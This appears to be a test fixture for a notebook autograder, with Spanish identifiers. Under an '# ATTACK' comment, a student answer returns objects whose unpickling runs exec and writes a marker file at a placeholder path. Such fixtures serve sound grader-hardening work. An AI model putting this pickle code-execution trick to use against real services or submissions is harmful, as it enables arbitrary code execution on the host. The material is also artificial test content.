"""Returns an object whose unpickling writes a file.

id: pickled-answer
notebook: tp
replaces: doble
loses: prueba_doble
"""


def doble(x):
    return x + 1


# ATTACK
import numpy as np


class _Trampa(dict):
    def __reduce__(self):
        return (exec, ("open('__CASA__/rastro-__MARCA__.txt', 'w').write('unpickled')",))

    __reduce_ex__ = lambda self, protocolo: self.__reduce__()


def doble(x):
    respuesta = np.empty(3, dtype=object)
    respuesta[:] = [_Trampa(), _Trampa(), _Trampa()]
    return respuesta if x[0] > 0 else _Trampa()
